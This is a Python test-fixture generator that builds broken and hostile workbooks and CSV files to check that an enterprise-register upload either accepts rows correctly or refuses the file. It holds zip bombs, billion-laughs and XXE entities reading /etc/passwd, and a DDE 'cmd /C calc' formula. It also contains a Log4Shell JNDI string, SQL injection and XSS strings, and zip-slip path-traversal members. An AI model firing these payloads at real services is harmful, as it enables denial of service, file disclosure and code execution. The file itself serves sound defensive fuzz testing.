"""Workbooks as nobody should send them: a seeded generator of broken, odd and hostile files for the register of
enterprises. Each says what must come of it: rows taken over as meant, a refusal in words, or either of the two.
"""

import io
import random
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import Any

import openpyxl
import xlsxwriter
from stdnum.cn import uscc

__all__ = ["HEADS", "Book", "Made", "books", "credit_code"]

HEADS = ("code", "name", "capital", "founded_on", "address")
"""Columns of the register of enterprises; ``capital`` in 万元."""
Row = Sequence[Any]


@dataclass(frozen=True)
class Made:
    """The bytes of a workbook, and what must come of them.

    ``rows`` are codes with the names they must have in the store; empty: nothing may be taken over; ``None``: rows or
    a refusal, whichever it is.
    """

    content: bytes
    rows: dict[str, str] | None = None
    name: str = "book.xlsx"
    media_type: str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@dataclass(frozen=True)
class Book:
    """One workbook of a set: its number in it, the way it was made, and the seed it was made with."""

    number: int
    way: str
    seed: int

    def made(self) -> Made:
        """The workbook itself; the same each time."""
        return WAYS[self.way](random.Random(self.seed))

    def __str__(self) -> str:
        return f"{self.number:03d}-{self.way}"


def books(number: int, seed: int = 2017) -> list[Book]:
    """So many workbooks, every way in turn."""
    chance = random.Random(seed)
    ways = list(WAYS)
    return [Book(n, ways[n % len(ways)], chance.randrange(2**32)) for n in range(number)]


def credit_code(number: int) -> str:
    """A valid unified social credit code."""
    body = f"91371400{number:09d}"
    return body + str(uscc.calc_check_digit(body))


def plain_rows(chance: random.Random, number: int = 5) -> list[list[Any]]:
    """Good rows."""
    first = chance.randrange(10**8)
    return [[credit_code(first + n), f"工厂{first}-{n}", n + 1, "2017-05-01", "路一号"] for n in range(number)]


def named(rows: Sequence[Row]) -> dict[str, str]:
    return {str(row[0]): str(row[1]) for row in rows}


def xlsx(rows: Sequence[Row], heads: Row = HEADS, **options: Any) -> bytes:
    """A workbook as a spreadsheet writes it."""
    target = io.BytesIO()
    book = xlsxwriter.Workbook(target, {"strings_to_formulas": False, "strings_to_urls": False, **options})
    sheet = book.add_worksheet("Sheet1")
    for place, row in enumerate([heads, *rows]):
        for column, value in enumerate(row):
            if value is not None:
                sheet.write(place, column, value)
    book.close()
    return target.getvalue()


def csv(rows: Sequence[Row], encoding: str, separator: str = ",", heads: Row = HEADS) -> bytes:
    lines = [separator.join("" if cell is None else str(cell) for cell in row) for row in [heads, *rows]]
    return "\r\n".join(lines).encode(encoding)


def members(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return {name: book.read(name) for name in book.namelist()}


def packed(parts: dict[str, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as book:
        for name, content in parts.items():
            book.writestr(name, content)
    return target.getvalue()


def altered(content: bytes, member: str, change: Callable[[bytes], bytes]) -> bytes:
    """A workbook with one member changed."""
    parts = members(content)
    parts[member] = change(parts[member])
    return packed(parts)


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"  # how old workbooks begin
SHEET, STRINGS = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"


def cut(chance: random.Random) -> Made:
    content = xlsx(plain_rows(chance))
    return Made(content[: chance.randrange(1, len(content) - 30)], {})


def flipped(chance: random.Random) -> Made:
    """Some bytes of a good workbook are others."""
    content = bytearray(xlsx(plain_rows(chance)))
    for _each in range(chance.randrange(1, 40)):
        content[chance.randrange(len(content))] = chance.randrange(256)
    return Made(bytes(content))


def flipped_inside(chance: random.Random) -> Made:
    """Bytes of a member are others, in an archive that is whole."""

    def change(text: bytes) -> bytes:
        spoilt = bytearray(text)
        for _each in range(chance.randrange(1, 12)):
            spoilt[chance.randrange(len(spoilt))] = chance.randrange(256)
        return bytes(spoilt)

    content = xlsx(plain_rows(chance))
    return Made(altered(content, chance.choice(sorted(members(content))), change))


def without_member(chance: random.Random) -> Made:
    parts = members(xlsx(plain_rows(chance)))
    del parts[chance.choice(sorted(parts))]
    return Made(packed(parts))


def noise(chance: random.Random) -> Made:
    start = chance.choice(
        (b"", b"PK\x03\x04", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"\x89PNG\r\n\x1a\n", b"%PDF-1.7\n")
    )
    return Made(start + chance.randbytes(chance.randrange(0, 4000)), {})


def bomb(chance: random.Random) -> Made:
    """A member of zeros or blanks that expands a thousandfold."""
    filler = chance.choice((b"\x00", b" ", b"<c/>", b"<!-- -->")) * (2**20 * chance.choice((8, 32)))
    member = chance.choice((SHEET, STRINGS, "xl/styles.xml", "docProps/app.xml"))
    return Made(altered(xlsx(plain_rows(chance)), member, lambda text: text[:200] + filler + text[200:]))


def huge_bomb(chance: random.Random) -> Made:
    """An archive whose member says it expands to more than a workbook may."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as book:
        for name, content in members(xlsx(plain_rows(chance, 1))).items():
            book.writestr(name, content)
        with book.open("xl/media/image1.bin", "w", force_zip64=True) as stream:
            for _each in range(1056):
                stream.write(bytes(2**20))
    return Made(target.getvalue(), {})


def lying_size(chance: random.Random) -> Made:
    """The directory of the archive names other sizes than its members have."""
    content = bytearray(xlsx(plain_rows(chance)))
    place = content.rfind(b"PK\x01\x02")
    for offset in range(20, 28):
        content[place + offset] = chance.randrange(256)
    return Made(bytes(content))


def many_strings(chance: random.Random) -> Made:
    """A table of shared strings that says it holds billions, or holds many that nobody uses."""
    text = b"<si><t>" + b"x" * chance.choice((1, 30_000)) + b"</t></si>"

    def change(strings: bytes) -> bytes:
        said = strings.replace(b"uniqueCount=", b'uniqueCount="4000000000" was=')
        return said.replace(b"</sst>", text * chance.choice((0, 300)) + b"</sst>")

    return Made(altered(xlsx(plain_rows(chance)), STRINGS, change))


def strings_not_there(chance: random.Random) -> Made:
    """Cells that name shared strings beyond the table."""
    number = chance.choice((b"99999", b"-1", b"4294967296", b"x", b""))
    return Made(
        altered(xlsx(plain_rows(chance)), SHEET, lambda text: text.replace(b"<v>7</v>", b"<v>" + number + b"</v>"))
    )


def laughs(chance: random.Random) -> Made:
    """Entities that call one another, or a file of the machine."""
    inner = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    kinds = (f'<!DOCTYPE x [<!ENTITY l0 "ha">{inner}]>', '<!DOCTYPE x [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>')
    head = chance.choice(kinds).encode()

    def change(text: bytes) -> bytes:
        start, rest = text.split(b"?>", 1)
        return start + b"?>" + head + rest.replace("工厂".encode(), b"&l9;", 1)

    return Made(altered(xlsx(plain_rows(chance)), STRINGS, change))


def deep_xml(chance: random.Random) -> Made:
    depth = chance.choice((1_000, 200_000))
    return Made(altered(xlsx(plain_rows(chance)), SHEET, lambda text: text.replace(b"<sheetData>", b"<a>" * depth, 1)))


def far_cell(chance: random.Random) -> Made:
    """A cell at the far corner of the sheet, or beyond it."""
    place = chance.choice((b"XFD1048576", b"A1048576", b"XFD2", b"ZZZ9999999", b"A99999999999", b"1A", b"A0"))
    cell = b'<row r="1048576"><c r="' + place + b'"><v>1</v></c></row></sheetData>'
    return Made(altered(xlsx(plain_rows(chance)), SHEET, lambda text: text.replace(b"</sheetData>", cell)))


def lying_dimension(chance: random.Random) -> Made:
    said = chance.choice((b"A1:XFD1048576", b"XFD1048576:A1", b"A1", b"", b"A1:ZZZZZZ99999999"))
    rows = plain_rows(chance)
    change = lambda text: text.replace(b'ref="A1:E6"', b'ref="' + said + b'"', 1)  # noqa: E731
    return Made(altered(xlsx(rows), SHEET, change))


def many_columns(chance: random.Random) -> Made:
    rows = plain_rows(chance, 2)
    return Made(xlsx(rows, [*HEADS, *(f"列{n}" for n in range(16_384 - len(HEADS)))]), named(rows))


def twice_headed(chance: random.Random) -> Made:
    head = chance.choice(HEADS)
    return Made(xlsx([[*row, "x"] for row in plain_rows(chance)], [*HEADS, head]), {})


def unknown_heads(chance: random.Random) -> Made:
    heads = ["".join(chance.choices("甲乙丙abc<>&\"'={}%", k=8)) for _head in HEADS]
    return Made(xlsx(plain_rows(chance), heads), {})


WRONG = (
    "abc", "NaN", "inf", "-inf", "1e999", "1e-999", "∞", "十二", "0x10", "1_000", "１２３", "--5", "=1+1", "+", "-",
    "9" * 400, "0." + "3" * 400, "2017-02-30", "0000-00-00", "9999-12-31", "31/12/2017", "true", "#REF!", "\\N", "NULL",
    "' OR 1=1 --", "<script>alert(1)</script>", "{{7*7}}", "%(x)s", "${jndi:ldap://x}", "../../etc/passwd", "🏭" * 50,
)  # fmt: skip


def wrong_types(chance: random.Random) -> Made:
    """Values of every wrong kind in every column."""
    rows = plain_rows(chance, 12)
    for row in rows:
        row[chance.randrange(len(row))] = chance.choice((*WRONG, True, -1, 1e308, 0.1, 10**18))
    return Made(xlsx(rows, nan_inf_to_errors=True))


def numbers_as_codes(chance: random.Random) -> Made:
    """Codes and names typed as numbers; a code of twenty digits has lost its end."""
    rows = [[float(chance.randrange(10**17)), chance.random() * 10 ** chance.randrange(20), 1, 42856, 5]]
    return Made(xlsx(rows), {})


def odd_letters(chance: random.Random) -> Made:
    """Zero-width and right-to-left marks, combining stacks, private-use and control characters in names and heads."""
    odd = "\u200b\u200e\u202e\u2066\ufeff\u0301\u0489\ue000\U000e0041\x1f\x0b\x7f\x85\u2028"
    rows = plain_rows(chance)
    for row in rows:
        letters = list(str(row[1]))
        for _each in range(4):
            letters.insert(chance.randrange(len(letters) + 1), chance.choice(odd))
        row[1] = "".join(letters)
    return Made(csv(rows, "utf-8"), name="odd.csv", media_type="text/csv")


def raw_control(chance: random.Random) -> Made:
    """Characters that XML forbids, written raw or as references; half a surrogate pair."""
    bad = chance.choice(
        (b"&#0;", b"&#1;", b"&#xD800;", b"&#xFFFF;", b"_xD800_", b"_x0000_", b"\x01", b"\xed\xa0\x80", b"&#x110000;")
    )
    return Made(altered(xlsx(plain_rows(chance)), STRINGS, lambda text: text.replace("工厂".encode(), bad, 2)))


def merged(chance: random.Random) -> Made:
    """Merged ranges: across heads and rows, over one another, beyond the sheet."""
    ranges = ("A1:E1", "A2:A6", "B2:B3", "B3:B5", "A1:XFD1048576", "E5:A1", "A1:A1", "C2:C99999", "A0:A1")
    told = "".join(f'<mergeCell ref="{one}"/>' for one in chance.sample(ranges, 3))
    xml = f'</sheetData><mergeCells count="3">{told}</mergeCells>'.encode()
    return Made(altered(xlsx(plain_rows(chance)), SHEET, lambda text: text.replace(b"</sheetData>", xml)))


def formulas(chance: random.Random) -> Made:
    """Formulas: never calculated, circular, calling the outside, endless."""
    rows = plain_rows(chance)
    told = ("=1/0", "=A1", "=B2", '=WEBSERVICE("http://127.0.0.1:1/")', "=cmd|' /C calc'!A0", "=" + "1+" * 4000 + "1",
            '=HYPERLINK("http://x","y")', "=RAND()", "=INDIRECT(A2)")  # fmt: skip
    target = io.BytesIO()
    book = openpyxl.Workbook()
    assert book.active is not None
    book.active.append(HEADS)
    for row in rows:
        row[chance.randrange(1, 5)] = chance.choice(told)
        book.active.append(row)
    book.save(target)
    return Made(target.getvalue())


def dates(chance: random.Random) -> Made:
    """Days as numbers of the 1900 or 1904 calendar, before and beyond both, with fractions."""
    numbers = (0, 1, 59, 60, 61, 42856, 42856.75, 2958465, 2958466, -1, 1e15)
    target = io.BytesIO()
    book = xlsxwriter.Workbook(target, {"date_1904": chance.random() < 0.5})
    sheet, day = book.add_worksheet(), book.add_format({"num_format": "yyyy-mm-dd"})
    sheet.write_row(0, 0, HEADS)
    for place, row in enumerate(plain_rows(chance, 8), 1):
        sheet.write_row(place, 0, row)
        sheet.write_number(place, 3, chance.choice(numbers), day if chance.random() < 0.7 else None)
    book.close()
    return Made(target.getvalue())


def linked(chance: random.Random) -> Made:
    """Links to outside files and hosts, and a member that lies outside the archive."""
    parts = members(xlsx(plain_rows(chance)))
    target = chance.choice(("file:///etc/passwd", "http://127.0.0.1:1/x", "\\\\host\\share\\x.xlsx", "../../../x"))
    link = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="{target}" TargetMode="External"/></Relationships>'  # noqa: E501
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = link.encode()
    parts[chance.choice(("../../evil.xml", "/etc/evil", "xl\\..\\..\\evil.xml"))] = b"<x/>"
    return Made(packed(parts))


def macros(chance: random.Random) -> Made:
    """A workbook with a macro, under its own name or another."""
    rows = plain_rows(chance)
    parts = members(xlsx(rows)) | {"xl/vbaProject.bin": OLE + chance.randbytes(2000)}
    return Made(packed(parts), named(rows), chance.choice(("x.xlsm", "x.xlsx", "x.xls")))


def liar(chance: random.Random) -> Made:
    """A good file under a name and type that are not its own: content decides."""
    rows = plain_rows(chance)
    content = chance.choice((xlsx(rows), csv(rows, "utf-8")))
    name = chance.choice(
        ("x.png", "x.exe", "x.csv", "x.xlsx", "", "a" * 300 + ".xlsx", "名\r\n称.xlsx", "../../x.xlsx")
    )
    return Made(content, named(rows), name or "x", chance.choice(("image/png", "text/html", "application/x-sh", "x")))


def encoded(chance: random.Random) -> Made:
    """CSV in the encodings that spreadsheets write."""
    rows = plain_rows(chance)
    encoding = chance.choice(("utf-8", "utf-8-sig", "gb18030", "gbk", "utf-16"))
    return Made(csv(rows, encoding, chance.choice(",;\t")), named(rows), "x.csv", "text/csv")


def misencoded(chance: random.Random) -> Made:
    """CSV in encodings that nobody announces, halves of characters, nulls."""
    rows = plain_rows(chance)
    way = chance.randrange(4)
    if way == 0:
        content = csv(rows, chance.choice(("utf-16-le", "utf-32", "utf-7")))
    elif way == 1:
        content = csv(rows, "utf-16")[:-1]
    elif way == 2:
        content = csv(rows, "utf-8") + b"\xff\xfe\x00"
    else:
        content = csv(rows, "utf-8").replace("工厂".encode(), b"\x00\xe5\xb7", 2)
    return Made(content, None, "x.csv", "text/csv")


def quoted(chance: random.Random) -> Made:
    """CSV with quotes that never end, cells of a megabyte, rows of every length, other ends of line."""
    rows = plain_rows(chance)
    text = csv(rows, "utf-8").decode()
    tail = chance.choice(('"', 'x,"' + "y" * 1_000_000, "\r\r\r", "," * 50_000, "\n" * 50_000, '""""""', "=1+1,@x,-3"))
    ends = chance.choice(("\n", "\r", "\r\n", "\u2028"))
    return Made((text.replace("\r\n", ends) + tail).encode(), None, "x.csv", "text/csv")


def geojson(chance: random.Random) -> Made:
    """JSON that is no collection of features, or one of nonsense."""
    told = ("{", "{}", '{"type":"FeatureCollection","features":null}', '{"a":' * 100_000, '{"type":"Feature"}',
            '{"type":"FeatureCollection","features":[1,null,[],{"properties":5}]}', '{"type": NaN}',
            '{"type":"FeatureCollection","features":[{"properties":{"name":"\\ud800"}}]}')  # fmt: skip
    return Made(chance.choice(told).encode(), None, "x.geojson", "application/geo+json")


def old_books(chance: random.Random) -> Made:
    """What claims to be .xls or .ods: a head without a body, or a table of another program."""
    if chance.random() < 0.4:
        return Made(OLE + bytes(chance.randrange(4096)), {}, "x.xls")
    body = "".join(f"<table:table-cell><text:p>{cell}</text:p></table:table-cell>" for cell in plain_rows(chance)[0])
    repeat = chance.choice(("1", "1048576", "99999999999", "-1"))
    name = "urn:oasis:names:tc:opendocument:xmlns:"
    xml = f'<office:document-content xmlns:office="{name}office:1.0" xmlns:table="{name}table:1.0" xmlns:text="{name}text:1.0"><office:body><office:spreadsheet><table:table table:name="S"><table:table-row table:number-rows-repeated="{repeat}">{body}</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>'  # noqa: E501
    parts = {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": xml.encode()}
    return Made(packed(parts), {}, "x.ods")


def long_cells(chance: random.Random) -> Made:
    """Two rows whose cells are far too long, among good ones, which alone are taken over."""
    rows = plain_rows(chance)
    rows[0][1] = chance.choice("甲a🏭") * 32_700
    rows[1][4] = "路" * 201
    return Made(xlsx(rows), named(rows[2:]))


def many_sheets(chance: random.Random) -> Made:
    """Hundreds of sheets, some hidden, none with heads, or all with the same row."""
    target = io.BytesIO()
    book = xlsxwriter.Workbook(target)
    rows = plain_rows(chance, 1)
    for number in range(120):
        sheet = book.add_worksheet(f"{number}<&'\"")
        if chance.random() < 0.5:
            sheet.write_row(0, 0, HEADS)
            sheet.write_row(1, 0, rows[0])
        if number and chance.random() < 0.3:
            sheet.hide()
    book.close()
    return Made(target.getvalue())


def good(chance: random.Random) -> Made:
    """Nothing is wrong with it: what refuses everything would pass all the others."""
    rows = plain_rows(chance, 30)
    return Made(xlsx(rows), named(rows))


WAYS: dict[str, Callable[[random.Random], Made]] = {
    way.__name__: way
    for way in (
        good, cut, flipped, flipped_inside, without_member, noise, bomb, lying_size, many_strings, strings_not_there,
        laughs, deep_xml, far_cell, lying_dimension, many_columns, twice_headed, unknown_heads, wrong_types,
        numbers_as_codes, odd_letters, raw_control, merged, formulas, dates, linked, macros, liar, encoded, misencoded,
        quoted, geojson, old_books, long_cells, many_sheets, huge_bomb,
    )
}  # fmt: skip
